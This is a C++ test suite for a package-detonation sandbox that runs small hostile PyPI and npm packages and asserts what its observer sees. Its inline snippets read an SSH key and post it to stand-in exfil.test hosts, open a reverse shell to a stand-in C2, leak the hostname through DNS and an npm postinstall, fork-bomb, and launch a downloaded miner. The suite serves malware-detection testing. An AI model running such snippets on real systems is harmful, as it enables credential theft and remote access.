// batlehub-behavior for real: small hostile packages written here are detonated by the agent
// in the behavior room (rooms/behavior.toml) under the bwrap runtime — the agent's seccomp
// filter, Landlock and rlimits, bwrap's namespaces and no network — and what the observer
// saw is asserted from its trace: the decoy read, the name asked, the connection and what
// it carried, the programs started, from the phase they happened in.
#include <gtest/gtest.h>

#include <map>

#include <nlohmann/json.hpp>

#include "adapters/scanners/behavior.h"
#include "hostile_packages.h"
#include "real_scanners.h"
#include "wire/base64.h"

namespace batlehub::testing {
namespace {

using nlohmann::json;

// The first phase record named `name` (every PyPI detonation has prepare, install, then an
// import and an execute per module).
json phase_named(const json& trace, const std::string& name) {
  for (const json& p : trace.at("phases")) {
    if (p.at("phase") == name) return p;
  }
  return json::object();
}

// Events of `kind` in `phase`.
// Events of `kind` in `phase`, of the pass `view` names: "" for the package as Linux runs it,
// "windows" for the Windows view's pass that follows it (PyPI).
std::vector<json> events(const json& trace, const std::string& kind, const std::string& phase,
                         const std::string& view = "") {
  std::vector<json> out;
  for (const json& e : trace.at("events")) {
    if (e.at("kind") == kind && e.at("phase") == phase && e.value("view", "") == view) out.push_back(e);
  }
  return out;
}

// The phase records of one pass (see events()).
std::vector<json> phases_of(const json& trace, const std::string& view = "") {
  std::vector<json> out;
  for (const json& p : trace.at("phases")) {
    if (p.value("view", "") == view) out.push_back(p);
  }
  return out;
}

class BehaviorReal : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    scratch_ = new Scratch();
    rooms_ = scratch_->root() / "rooms";
    if (bwrap_unavailable().empty()) {
      room_error_ = new std::string(
          build_room_from(rooms_, "behavior", "behavior",
                          std::string("--binary ") + BATLEHUB_BEHAVIOR_BIN + ":/usr/local/bin/batlehub-behavior") +
          build_room_from(rooms_, "behavior", "behavior-blind",
                          std::string("--binary ") + BATLEHUB_HELPERS_DIR +
                              "/batlehub-behavior-blind:/usr/local/bin/batlehub-behavior"));
    }
  }
  static void TearDownTestSuite() {
    delete scratch_;
    scratch_ = nullptr;
    delete room_error_;
    room_error_ = nullptr;
  }
  void need_bwrap() {
    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
    ASSERT_TRUE(room_error_ && room_error_->empty()) << (room_error_ ? *room_error_ : "");
  }

  // The trace of detonating `archive` (an sdist for "pypi", an npm tarball for "npm").
  json detonate(const std::string& ecosystem, const std::string& archive, const std::string& import_ms = "8000") {
    auto rt = bwrap_runtime(*scratch_, rooms_);
    core::RunSpec spec;
    spec.label.scanner = "behavior";
    spec.timeout = std::chrono::seconds(180);
    if (ecosystem == "pypi") {
      spec.bundle.entries = {core::BundleEntry::file(*wire::RelPath::parse("in/pkg-1.0.tar.gz"),
                                                     adapters::memory_blob(archive, "pkg-1.0.tar.gz"))};
      spec.argv = {"batlehub-behavior", "pypi", "in/pkg-1.0.tar.gz"};
    } else {
      spec.bundle.entries = {
          core::BundleEntry::archive(*wire::RelPath::parse("pkg"), adapters::memory_blob(archive, "pkg.tgz"), true)};
      spec.argv = {"batlehub-behavior", "npm", "pkg"};
    }
    spec.argv.insert(spec.argv.end(), {"--import-timeout-ms", import_ms});
    auto out = rt->run(spec);
    EXPECT_TRUE(out) << (out ? "" : out.error().message);
    if (!out) return json::object();
    EXPECT_EQ(out->status, 0) << out->stderr_tail;
    json t = json::parse(out->stdout_bytes, nullptr, false);
    EXPECT_FALSE(t.is_discarded()) << out->stdout_bytes.substr(0, 2000);
    return t.is_discarded() ? json::object() : t;
  }

  // The findings of the behavior scanner (its adapter, as the worker runs it) on `archive`:
  // each rule with the strongest severity it fired at.
  std::map<std::string, core::Severity> findings(core::PackageKind kind, const std::string& archive) {
    auto rt = bwrap_runtime(*scratch_, rooms_);
    adapters::BehaviorOptions o;
    o.import_timeout = std::chrono::seconds(8);
    adapters::BehaviorScanner scanner(o);
    core::ScanInput in;
    in.package.kind = kind;
    in.package.name = "x";
    in.package.version = "1.0";
    in.artifact = adapters::memory_blob(archive, "artifact");
    auto got = core::scan_with(scanner, *rt, in);
    EXPECT_TRUE(got) << (got ? "" : got.error().message);
    std::map<std::string, core::Severity> out;
    if (!got) return out;
    // A rule can fire in several phases: the strongest is what decides.
    for (const core::Finding& f : *got) {
      auto [it, fresh] = out.emplace(f.reference.value_or(""), f.severity);
      if (!fresh && f.severity > it->second) it->second = f.severity;
    }
    return out;
  }

  static Scratch* scratch_;
  static fs::path rooms_;
  static std::string* room_error_;
};
Scratch* BehaviorReal::scratch_ = nullptr;
fs::path BehaviorReal::rooms_;
std::string* BehaviorReal::room_error_ = nullptr;

TEST_F(BehaviorReal, a_setup_py_that_reads_the_decoy_key_and_posts_it_is_seen_with_the_key_in_the_post) {
  BATLEHUB_NEED_BWRAP();
  json t = detonate("pypi", hostile_archive("a setup.py that reads the decoy key"));
  ASSERT_TRUE(t.contains("events"));
  auto decoys = events(t, "decoy-open", "install");
  ASSERT_FALSE(decoys.empty()) << t.dump(1);
  EXPECT_EQ(decoys[0].at("decoy"), "ssh-key");
  EXPECT_EQ(decoys[0].at("path"), "/work/home/.ssh/id_rsa");
  bool asked = false;
  for (const json& e : events(t, "dns", "install")) asked = asked || e.at("host") == "collect.exfil.test";
  EXPECT_TRUE(asked) << t.dump(1);
  auto streams = events(t, "stream", "install");
  ASSERT_FALSE(streams.empty()) << t.dump(1);
  EXPECT_EQ(streams[0].at("protocol"), "http");
  EXPECT_EQ(streams[0].at("request_line"), "POST /k HTTP/1.1");
  EXPECT_EQ(streams[0].at("host"), "collect.exfil.test");
  EXPECT_EQ(streams[0].value("canary", false), true);
  EXPECT_EQ(streams[0].at("port"), 80);
  EXPECT_EQ(streams[0].at("address").get<std::string>().rfind("127.77.", 0), 0U);
  // The install succeeded: the package could not tell.
  EXPECT_EQ(t.at("phases")[1].at("phase"), "install");
  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0);
}

TEST_F(BehaviorReal, a_postinstall_that_resolves_a_name_carrying_the_user_is_seen_asking_it) {
  BATLEHUB_NEED_BWRAP();
  json t = detonate("npm", hostile_archive("a postinstall that resolves a name"));
  ASSERT_TRUE(t.contains("events"));
  std::string asked;
  bool identity = false;
  for (const json& e : events(t, "dns", "install")) {
    asked = e.at("host");
    identity = identity || e.value("identity", false);
  }
  ASSERT_FALSE(asked.empty()) << t.dump(1);
  EXPECT_TRUE(identity) << "the user's name is host identity: " << asked;
  EXPECT_TRUE(asked.ends_with(".hostname-dns.dns.exfil.test")) << asked;
  EXPECT_FALSE(asked.starts_with(".")) << "the user's name is in it: " << asked;
  auto execs = events(t, "exec", "install");
  ASSERT_FALSE(execs.empty());
  EXPECT_EQ(execs[0].at("argv")[0], "sh");
  EXPECT_EQ(execs[0].at("argv")[1], "-c");
}

TEST_F(BehaviorReal, an_import_that_execs_decoded_text_opening_a_shell_on_a_connection_is_seen_and_bounded) {
  BATLEHUB_NEED_BWRAP();
  // The reverse shell, base64'd: it connects, says hello, and hands the connection to sh -i,
  // which waits for commands until the import's time is up (hostile_packages.h).
  json t = detonate("pypi", hostile_archive("an import-time exec of decoded text"), "4000");
  ASSERT_TRUE(t.contains("events"));
  EXPECT_TRUE(events(t, "connect", "install").empty()) << "nothing connects at install";
  auto connects = events(t, "connect", "import");
  ASSERT_EQ(connects.size(), 1U) << t.dump(1);
  EXPECT_EQ(connects[0].at("host"), "c2.exfil.test");
  EXPECT_EQ(connects[0].at("port"), 4444);
  bool shell = false;
  for (const json& e : events(t, "exec", "import")) {
    shell = shell || (e.at("path") == "/bin/sh" && e.at("argv").size() == 2 && e.at("argv")[1] == "-i");
  }
  EXPECT_TRUE(shell) << t.dump(1);
  auto streams = events(t, "stream", "import");
  ASSERT_EQ(streams.size(), 1U);
  EXPECT_EQ(streams[0].at("head").get<std::string>().rfind("hello from ", 0), 0U);
  // The shell waited on the connection for commands; the sink, which had none, ended the
  // idle connection, and the shell read its end: the import ended before its bound.
  EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
}

TEST_F(BehaviorReal, an_import_that_never_ends_is_bounded_and_what_it_leaves_running_is_killed_and_said) {
  BATLEHUB_NEED_BWRAP();
  const std::string init =
      "import subprocess, time\n"
      "subprocess.Popen(['/bin/sh', '-c', 'while :; do :; done'], start_new_session=True)\n";
  json t = detonate("pypi", behavior_import_sdist("daemon", init));
  ASSERT_TRUE(t.contains("phases"));
  EXPECT_EQ(phase_named(t, "import").value("timed_out", true), false);
  auto left = events(t, "left-running", "import");
  ASSERT_EQ(left.size(), 1U) << t.dump(1);
  EXPECT_EQ(left[0].at("count"), 1);

  const std::string forever = "import time\nwhile True:\n    time.sleep(1)\n";
  json u = detonate("pypi", behavior_import_sdist("forever", forever), "1500");
  ASSERT_TRUE(u.contains("phases"));
  EXPECT_EQ(phase_named(u, "import").value("timed_out", false), true);
}

// A package that floods the trace (here 400 programs started with 64 arguments of a kilobyte
// each, 25 MiB of argv) is cut at the trace's bound and says so; the trace stays readable.
TEST_F(BehaviorReal, a_package_that_floods_the_trace_is_cut_at_its_bound_and_says_so) {
  BATLEHUB_NEED_BWRAP();
  const std::string init =
      "import subprocess\n"
      "arg = 'x' * 1000\n"
      "for i in range(400):\n"
      "    subprocess.call(['/usr/bin/env'] + [arg] * 64)\n";
  json t = detonate("pypi", behavior_import_sdist("flood", init));
  ASSERT_TRUE(t.contains("events"));
  bool said = false;
  for (const json& e : t.at("events")) {
    said = said || (e.at("kind") == "limit" && e.at("what") == "trace bytes" && e.at("count").get<int>() > 0);
  }
  EXPECT_TRUE(said) << t.at("events").size() << " events";
  EXPECT_LT(t.dump().size(), 9U * 1024 * 1024);
}

// A package that writes without end and forks without end meets the walls' bounds (RLIMIT_FSIZE
// on each file, RLIMIT_NPROC and the run's pids), not a hang: its import ends, the processes it
// left are killed and counted, and the detonation goes on to its next phase.
TEST_F(BehaviorReal, a_package_that_writes_and_forks_without_end_is_bounded_and_what_it_left_is_said) {
  BATLEHUB_NEED_BWRAP();
  const std::string init =
      "import os, time\n"
      "with open(os.path.join(os.environ['TMPDIR'], 'fill'), 'wb') as f:\n"
      "    try:\n"
      "        while True:\n"
      "            f.write(b'x' * (1 << 20))\n"
      "    except OSError as e:\n"
      "        print('write stopped:', e.strerror)\n"
      "n = 0\n"
      "while True:\n"
      "    try:\n"
      "        if os.fork() == 0:\n"
      "            time.sleep(600)\n"
      "            os._exit(0)\n"
      "        n += 1\n"
      "    except OSError as e:\n"
      "        print('fork stopped after', n, e.strerror)\n"
      "        break\n";
  json t = detonate("pypi", behavior_import_sdist("bomb", init));
  ASSERT_TRUE(t.contains("phases"));
  const json import = phase_named(t, "import");
  EXPECT_EQ(import.value("timed_out", true), false);
  const std::string said = import.value("output_tail", "");
  EXPECT_NE(said.find("write stopped: File too large"), std::string::npos) << said;
  EXPECT_NE(said.find("fork stopped after"), std::string::npos) << said;
  auto left = events(t, "left-running", "import");
  ASSERT_EQ(left.size(), 1U) << t.dump(1);
  EXPECT_GT(left[0].at("count").get<int>(), 10);
  EXPECT_FALSE(phase_named(t, "execute").empty()) << "the detonation went on to its next phase";
}

// A shell reading its commands from its input is a reverse shell's when that input is a
// connection, and a build script's when it is a pipe (autoconf's configure feeds /bin/sh so):
// the observer says which input the shell got, and only the first is a finding.
TEST_F(BehaviorReal, a_shell_fed_through_a_pipe_is_a_build_s_and_one_on_a_connection_a_reverse_shell) {
  BATLEHUB_NEED_BWRAP();
  const std::string piped = "import subprocess\nsubprocess.run(['/bin/sh'], input=b'echo configured\\n')\n";
  auto build = findings(core::PackageKind::kPypi, behavior_install_sdist("piped", piped));
  EXPECT_EQ(build.count("behavior-interactive-shell"), 0U);
  const std::string init =
      "import os, socket, subprocess\n"
      "s = socket.create_connection(('c2.exfil.test', 4444))\n"
      "subprocess.call(['/bin/sh'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n";
  auto shell = findings(core::PackageKind::kPypi, behavior_import_sdist("plainsh", init));
  EXPECT_EQ(shell["behavior-interactive-shell"], core::Severity::kHigh);
}

// PyPI's execute phase: a function nothing calls at import, called with stand-in arguments,
// is seen doing what it does — and what it does weighs a step less than at install or import,
// but a decoy's canary sent is still a block.
TEST_F(BehaviorReal, a_function_that_sends_the_decoy_key_when_called_is_seen_in_the_execute_phase) {
  BATLEHUB_NEED_BWRAP();
  const std::string init =
      "import os, urllib.request\n"
      "def upload(target):\n"
      "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
      "    urllib.request.urlopen('http://keys.exfil.test/u', data=key.encode(), timeout=5)\n";
  const std::string archive = behavior_import_sdist("onlywhencalled", init);
  json t = detonate("pypi", archive);
  ASSERT_TRUE(t.contains("events"));
  EXPECT_TRUE(events(t, "stream", "import").empty()) << "nothing is sent at import";
  auto sent = events(t, "stream", "execute");
  ASSERT_EQ(sent.size(), 1U) << t.dump(1);
  EXPECT_EQ(sent[0].value("canary", false), true);
  auto got = findings(core::PackageKind::kPypi, archive);
  EXPECT_EQ(got["behavior-canary-sent"], core::Severity::kHigh);
  EXPECT_EQ(got["behavior-token-store-read"], core::Severity::kMedium);
}

TEST_F(BehaviorReal, a_download_made_executable_and_run_is_seen_as_a_program_started_from_a_written_file) {
  BATLEHUB_NEED_BWRAP();
  json t = detonate("pypi", hostile_archive("a miner downloaded"));
  ASSERT_TRUE(t.contains("events"));
  bool fetched = false;
  for (const json& e : events(t, "stream", "install"))
    fetched = fetched || e.at("request_line") == "GET /xmrig HTTP/1.1";
  EXPECT_TRUE(fetched) << t.dump(1);
  bool ran = false;
  for (const json& e : events(t, "exec", "install")) {
    if (e.at("resolved") != "/work/tmp/xmrig") continue;
    ran = true;
    EXPECT_EQ(e.value("written", false), true) << "the program is the file the run downloaded: " << e.dump();
    EXPECT_EQ(e.at("argv")[1], "-o");
    EXPECT_EQ(e.at("argv")[2], "pool.exfil.test:3333");
  }
  EXPECT_TRUE(ran) << t.dump(1);
}

TEST_F(BehaviorReal, a_native_package_whose_build_fails_without_a_compiler_does_nothing_the_trace_would_hold) {
  BATLEHUB_NEED_BWRAP();
  json t = detonate("pypi", hostile_archive("a native package whose build fails"));
  ASSERT_TRUE(t.contains("phases"));
  const json& install = t.at("phases")[1];
  EXPECT_EQ(install.at("phase"), "install");
  EXPECT_NE(install.value("exit_code", 0), 0) << "the build needs a compiler the room does not have";
  EXPECT_EQ(phases_of(t).size(), 2U) << "nothing was installed, so nothing is imported";
  const auto as_windows = phases_of(t, "windows");
  ASSERT_EQ(as_windows.size(), 1U) << "the Windows view's install fails the same way: " << t.dump(1);
  EXPECT_NE(as_windows[0].value("exit_code", 0), 0);
  for (const char* kind : {"decoy-open", "dns", "connect", "stream", "datagram", "write"}) {
    EXPECT_TRUE(events(t, kind, "install").empty()) << kind << ": " << t.dump(1);
    EXPECT_TRUE(events(t, kind, "install", "windows").empty()) << kind << ": " << t.dump(1);
  }
}

// HTTPS is read in the clear: the sink's TLS server answers with a certificate of this run's
// authority, which Python's ssl (urllib), requests (certifi's bundle, as Debian links it) and
// Node (NODE_EXTRA_CA_CERTS) trust in the room — the key posted to a webhook over TLS is seen
// with the key in it, and the request's line and Host.
TEST_F(BehaviorReal, a_key_posted_over_https_by_urllib_requests_and_node_is_read_in_the_clear) {
  BATLEHUB_NEED_BWRAP();
  const std::string pre =
      "import os, urllib.request, requests, socket\n"
      "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
      "urllib.request.urlopen(urllib.request.Request('https://hooks.exfil.test/k', data=key.encode(), "
      "method='POST'), timeout=5)\n"
      "requests.post('https://api.exfil.test/i', json={'host': socket.gethostname(), 'home': "
      "os.path.expanduser('~')}, timeout=5)\n";
  json t = detonate("pypi", behavior_install_sdist("tlssend", pre));
  ASSERT_TRUE(t.contains("events"));
  std::map<std::string, json> by_host;
  for (const json& e : events(t, "stream", "install")) by_host[e.at("host")] = e;
  ASSERT_TRUE(by_host.contains("hooks.exfil.test")) << t.dump(1);
  const json& hook = by_host["hooks.exfil.test"];
  EXPECT_EQ(hook.at("protocol"), "https");
  EXPECT_EQ(hook.at("port"), 443);
  EXPECT_EQ(hook.at("request_line"), "POST /k HTTP/1.1");
  EXPECT_EQ(hook.value("canary", false), true) << "the key, read in the clear";
  ASSERT_TRUE(by_host.contains("api.exfil.test")) << t.dump(1);
  const json& api = by_host["api.exfil.test"];
  EXPECT_EQ(api.at("protocol"), "https");
  EXPECT_EQ(api.at("request_line"), "POST /i HTTP/1.1");
  EXPECT_EQ(api.value("identity", false), true) << "the host's name and HOME, in the JSON body: " << api.dump();
  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0) << "the posts were answered: the install went on";

  const std::string pj = R"({"name":"tlsnode","version":"1.0.0","scripts":{"postinstall":
    "node -e \"const r = require('https').request({host: 'collect.exfil.test', method: 'POST', path: '/n'}, (s) => s.resume()); r.end(require('os').hostname() + ' ' + process.env.HOME)\""}})";
  json n = detonate("npm", behavior_npm_package({file("package.json", pj), file("index.js", "module.exports = 1;\n")}));
  ASSERT_TRUE(n.contains("events"));
  auto sent = events(n, "stream", "install");
  ASSERT_EQ(sent.size(), 1U) << n.dump(1);
  EXPECT_EQ(sent[0].at("protocol"), "https");
  EXPECT_EQ(sent[0].at("host"), "collect.exfil.test");
  EXPECT_EQ(sent[0].at("request_line"), "POST /n HTTP/1.1");
  EXPECT_EQ(sent[0].value("identity", false), true) << sent[0].dump();
}

// A client that brings its own trust (here: none at all) refuses the sink's certificate: the
// stream says it was TLS, the name it asked for and why it ended, and carries nothing more.
TEST_F(BehaviorReal, a_client_that_trusts_only_its_own_roots_refuses_the_handshake_and_the_stream_says_so) {
  BATLEHUB_NEED_BWRAP();
  const std::string init =
      "import socket, ssl\n"
      "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)\n"
      "try:\n"
      "    ctx.wrap_socket(socket.create_connection(('pinned.exfil.test', 443), timeout=5), "
      "server_hostname='pinned.exfil.test').sendall(b'never')\n"
      "except ssl.SSLError as e:\n"
      "    print('refused', e)\n";
  json t = detonate("pypi", behavior_import_sdist("pinned", init));
  ASSERT_TRUE(t.contains("events"));
  auto streams = events(t, "stream", "import");
  ASSERT_EQ(streams.size(), 1U) << t.dump(1);
  EXPECT_EQ(streams[0].at("protocol"), "tls");
  EXPECT_EQ(streams[0].at("host"), "pinned.exfil.test");
  EXPECT_EQ(streams[0].value("bytes", 1), 0) << "nothing was read in the clear";
  EXPECT_EQ(streams[0].value("what", "").rfind("tls: the handshake: ", 0), 0U) << streams[0].dump();
}

// Issue 47's hostile packages (hostile_packages.h) through the scanner, as the worker runs
// it: each finding with its severity and its evidence, and none for a native build that fails
// or an ordinary package. The same list runs on podman, docker and Kubernetes.
TEST_F(BehaviorReal, the_issue_s_hostile_packages_give_their_findings_with_their_evidence_under_bwrap) {
  BATLEHUB_NEED_BWRAP();
  auto rt = bwrap_runtime(*scratch_, rooms_);
  expect_the_hostile_packages_found(*rt, "under bwrap");
}

TEST_F(BehaviorReal, a_wheel_s_pth_file_runs_at_every_interpreter_start_and_is_seen_at_import) {
  BATLEHUB_NEED_BWRAP();
  // A .pth line that starts with "import" runs whenever Python starts (site.py).
  const std::string pth =
      "import os, socket; socket.getaddrinfo(os.uname().nodename + '.pth.exfil.test', 443) if "
      "os.environ.get('HOME') else None\n";
  const std::string wheel = make_zip({file("pthdemo/__init__.py", ""),
                                      file("pthdemo-1.0.dist-info/METADATA",
                                           "Metadata-Version: 2.1\nName: pthdemo\n"
                                           "Version: 1.0\n"),
                                      file("pthdemo-1.0.dist-info/WHEEL",
                                           "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
                                           "Tag: py3-none-any\n"),
                                      file("pthdemo-1.0.dist-info/top_level.txt", "pthdemo\n"),
                                      file("pthdemo-1.0.dist-info/RECORD", ""), file("pthdemo_hook.pth", pth)});
  json t = detonate("pypi", wheel);
  ASSERT_TRUE(t.contains("phases"));
  ASSERT_GE(t.at("phases").size(), 3U) << t.dump(1);
  EXPECT_EQ(t.at("phases")[1].value("exit_code", -1), 0) << t.at("phases")[1].value("output_tail", "");
  bool asked = false;
  for (const json& e : events(t, "dns", "import")) {
    asked = asked || (e.at("host").get<std::string>().ends_with(".pth.exfil.test") && e.value("identity", false));
  }
  EXPECT_TRUE(asked) << "the host's name, asked of the resolver by the .pth at the import's start: " << t.dump(1);
}

// The probe's check of the observer (issue 47 point 5): in the room, the self-test's helper
// starts a shell, reads the decoy key, asks a name, connects and posts the key, and the
// observer must see each; a build whose observer is blind fails it, naming all five.
TEST_F(BehaviorReal, the_probe_s_self_check_passes_with_the_observer_and_names_all_a_blind_one_missed) {
  BATLEHUB_NEED_BWRAP();
  auto rt = bwrap_runtime(*scratch_, rooms_);
  adapters::BehaviorOptions o;
  EXPECT_EQ(adapters::judge_self_test(rt->run(adapters::self_test_run(o))), std::nullopt);
  o.name = "behavior-blind";
  auto missed = adapters::judge_self_test(rt->run(adapters::self_test_run(o)));
  ASSERT_TRUE(missed);
  EXPECT_EQ(*missed,
            "the detonation's observer did not see the shell it started, its read of the decoy SSH key, the name it "
            "asked, its connection, the key's canary in what it sent, the canary in what it sent over HTTPS (a "
            "helper's exec, decoy read, DNS query and connection, in the room)");
}

}  // namespace
}  // namespace batlehub::testing
